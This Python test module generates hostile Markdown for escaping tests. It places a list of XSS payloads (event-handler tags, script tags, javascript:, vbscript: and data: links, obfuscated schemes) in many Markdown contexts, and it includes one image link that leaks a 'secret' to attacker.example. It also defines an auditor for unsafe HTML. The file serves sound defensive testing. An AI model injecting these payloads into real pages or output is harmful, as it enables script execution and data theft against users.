"""Hostile model text, generated: HTML and URL payloads placed in every Markdown context that could
confuse an escaper (code spans, fences, lists, quotes, math, links, odd line endings), plus a
checker that says what in rendered HTML could run or fetch. Shared by the escaping unit tests and
the real-browser test."""

from __future__ import annotations

import random
from html.parser import HTMLParser
from urllib.parse import urlsplit

# Each payload, rendered as HTML, would run script (or navigate to script when clicked).
PAYLOADS = [
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<IMG SRC=x ONERROR=\"window.__pwned=1\">",
    "<img/src=x/onerror=window.__pwned=1>",
    "<script>window.__pwned='script'</script>",
    "<svg onload=\"window.__pwned=1\">",
    "<svg><script>window.__pwned=1</script></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<details open ontoggle=\"window.__pwned=1\">x</details>",
    "<a href=\"javascript:window.__pwned=1\">click</a>",
    "<style>body{display:none}</style>",
    "<form action=javascript:window.__pwned=1><button>go</button></form>",
    "<object data=\"javascript:window.__pwned=1\"></object>",
    "<!-- <img src=x onerror=\"window.__pwned=1\"> -->",
    "<body onload=\"window.__pwned=1\">",
    "<input autofocus onfocus=\"window.__pwned=1\">",
    "<javascript:window.__pwned=1>",
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](jav&#x61;script:window.__pwned=1)",
    "[click](java&#9;script:window.__pwned=1)",
    "[click](javascript&colon;window.__pwned=1)",
    "[click](javascript\\:window.__pwned=1)",
    "[click](<javascript:window.__pwned=1>)",
    "[click](\n javascript:window.__pwned=1)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>window.__pwned=1</script>)",
    "[click][ref]\n\n[ref]: javascript:window.__pwned=1",
    "![x](javascript:window.__pwned=1)",
    "![x](https://attacker.example/leak?q=secret)",
]

# Each context is a template: {p} is where the payload goes.
CONTEXTS = [
    "{p}",
    "Here: {p} and more *text*",
    "`code` then {p} then `more code`",
    "\\`{p}`",
    "``{p}`",
    "`` ` {p}",
    "```\n{p}\n```",
    "```\ncode\n```\n{p}",
    "```\n{p}",
    "``` info`tick\n{p}\n```",
    "~~~ py\n{p}\n~~~",
    "````\n```\n````\n{p}",
    "- item\n- {p}",
    "1. step\n   ```\n   x\n   ```\n{p}",
    "- ```\n{p}",
    "> quoted {p}",
    "> ```\n{p}",
    "    {p}",
    "# Heading {p}",
    "| a | b |\n|---|---|\n| {p} | c |",
    "**bold {p} bold**",
    "[link text {p}](https://example.com)",
    "$x {p} y$",
    "$$\n{p}\n$$",
    "\\begin{{align}} {p} \\end{{align}}",
    "line\r{p}",
    "```\r{p}\r```\r\n{p}",
    "<pre>\n{p}\n</pre>",
    "<div>\n\n{p}\n\n</div>",
]


def hostile_corpus(n: int = 400, seed: int = 1234) -> list[str]:
    """Every payload in every context once, then `n` random nestings of 1-3 contexts around
    1-2 payloads, split across lines at random."""
    rng = random.Random(seed)
    out = [ctx.format(p=p) for p in PAYLOADS for ctx in CONTEXTS]
    for _ in range(n):
        payload = "".join(rng.choice(PAYLOADS) for _ in range(rng.randint(1, 2)))
        if rng.random() < 0.3:
            cut = rng.randrange(len(payload))
            payload = payload[:cut] + rng.choice(["\n", "\n\n", "\r\n", " ", "`", "\t"]) + payload[cut:]
        text = payload
        for _ in range(rng.randint(1, 3)):
            text = rng.choice(CONTEXTS).format(p=text)
        out.append(text)
    return out


SAFE_TAGS = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "blockquote", "hr", "br", "del", "s",
             "table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}
SAFE_ATTRS = {"a": {"href", "title"}, "th": {"style", "align"}, "td": {"style", "align"}}


def url_scheme(url: str) -> str:
    """The scheme a browser would use: tabs and newlines dropped, leading controls stripped."""
    url = "".join(ch for ch in url if ch not in "\t\n\r").lstrip("".join(map(chr, range(33))))
    try:
        return urlsplit(url).scheme.lower()
    except ValueError:
        return "?"


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name not in SAFE_ATTRS.get(tag, ()):
                self.problems.append(f"<{tag} {name}=...> attribute")
            elif name == "href" and url_scheme(value or "") not in SAFE_SCHEMES:
                self.problems.append(f"<a href={value!r}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.problems.append("an HTML comment")

    def handle_pi(self, data):
        self.problems.append("a processing instruction")

    def handle_decl(self, decl):
        self.problems.append("a declaration")

    def unknown_decl(self, data):
        self.problems.append("a CDATA section")

    def handle_data(self, data):
        self.text.append(data)


def audit_html(rendered: str) -> tuple[list[str], str]:
    """(what in `rendered` could run or fetch, its text as a browser would show it)."""
    audit = _Audit()
    audit.feed(rendered)
    audit.close()
    return audit.problems, "".join(audit.text)
